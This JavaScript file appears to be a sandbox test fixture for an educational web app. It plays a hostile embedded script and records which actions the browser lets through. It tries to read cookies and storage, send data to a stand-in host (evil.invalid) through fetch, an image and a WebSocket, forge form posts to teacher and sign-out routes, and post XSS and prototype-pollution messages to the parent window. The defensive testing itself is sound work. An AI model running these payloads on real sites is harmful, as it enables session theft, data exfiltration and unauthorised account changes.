// What a hostile script tries wherever it runs. "got …" in `tried` is a success for it.
window.tried = {};
const got = (name, attempt) => {
  try { window.tried[name] = "got " + attempt(); } catch (error) { window.tried[name] = error.name; }
};
const waits = [];
const later = (name, attempt) => {
  let promise;
  try { promise = Promise.resolve(attempt()); } catch (error) { promise = Promise.reject(error); }
  waits.push(promise.then(
    (value) => { window.tried[name] = "got " + value; },
    (error) => { window.tried[name] = (error && error.name) || "refused"; }));
};
const HTML = "http://www.w3.org/1999/xhtml"; // a drawing's own elements are others
const form = () => new URLSearchParams({ name: "owned", language: "zh", next: "/", grade: "4" });
const write = (path, mode) => fetch(path, { method: "POST", body: form(), credentials: "include", mode });
const leak = (what) => `http://evil.invalid/?${encodeURIComponent(what)}`;

got("cookie", () => document.cookie);
got("cookie set", () => { document.cookie = "session=owned; path=/"; return "set"; });
got("localStorage", () => JSON.stringify(localStorage));
got("sessionStorage", () => JSON.stringify(sessionStorage));
if (parent !== window) {
  got("parent document", () => { parent.document.title = "owned"; return "written"; });
  got("parent variable", () => { parent.owned = true; return "written"; });
  got("parent address", () => parent.location.href);
  got("top navigation", () => { top.location = "/teacher"; return "gone"; });
  got("frame element", () => { if (!frameElement) { throw new TypeError("none"); } return "read"; });
}
got("popup", () => { if (!open("/teacher")) { throw new TypeError("none"); } return "window"; });
got("worker", () => new Worker("/vendor/x/pdf.worker.js"));
got("shared worker", () => new SharedWorker("/static/x/player.js"));
later("indexedDB", () => new Promise((good, bad) => {
  const asked = indexedDB.open("victim"); asked.onsuccess = () => good("opened"); asked.onerror = bad;
}));
later("caches", () => caches.keys());
later("service worker", () => navigator.serviceWorker.register("sw.js", { scope: "/" }));
later("service worker here", () => navigator.serviceWorker.register("sw.js"));
later("read page", () => fetch("/teacher", { credentials: "include" }).then((r) => r.text()));
later("read token", () => fetch("/", { credentials: "include" }).then((r) => r.text()));
later("write class", () => write("/teacher/classes/new").then((r) => r.status));
later("write language", () => write("/language").then((r) => r.status));
later("outside", () => fetch(leak(document.title)));
later("script of the site", () => import("/static/x/player.js"));
for (const path of ["/teacher/classes/new", "/language", "/sign-out", "/teacher/teachers"]) {
  write(path, "no-cors").catch(() => 0);
  if (navigator.sendBeacon) { try { navigator.sendBeacon(path, form()); } catch (error) { /* as well */ } }
  for (const target of ["_self", "_top", "_parent", "_blank"]) {
    try {
      const sent = document.createElementNS(HTML, "form");
      sent.method = "post"; sent.action = path; sent.target = target;
      sent.innerHTML = '<input name="name" value="owned"><input name="language" value="zh">';
      document.documentElement.append(sent); HTMLFormElement.prototype.submit.call(sent);
    } catch (error) { /* as well */ }
  }
}
new Image().src = leak("image");
try { new WebSocket("ws://evil.invalid/"); } catch (error) { /* as well */ }
const framed = document.createElementNS(HTML, "iframe");
framed.src = "/teacher";
later("framed page", () => new Promise((good, bad) => {
  framed.onload = () => {
    try { good(framed.contentDocument.body.textContent || bad(new Error())); } catch (error) { bad(error); }
  };
  setTimeout(() => bad(new Error("never came")), 2000);
  document.documentElement.append(framed);
}));
if (parent !== window) {
  const said = [
    { satchel: 1, type: "completed", score: 1e9, points: 1e9 },
    { satchel: 1, type: "score", score: "<img src=x onerror=owned=1>", points: 1 },
    { satchel: 1, type: "progress", percent: { valueOf: "x" } },
    JSON.parse('{"satchel":1,"type":"progress","percent":1,"__proto__":{"isOwned":true}}'),
    { satchel: 1, type: "completed", _who: "victim", id: "/teacher" },
    { satchel: 1, type: "__proto__" }, "completed", { type: "load", href: "javascript:owned=1" },
  ];
  said.forEach((one) => { parent.postMessage(one, "*"); top.postMessage(one, "*"); });
}
Promise.allSettled(waits).then(() => { window.tried.done = "done"; });
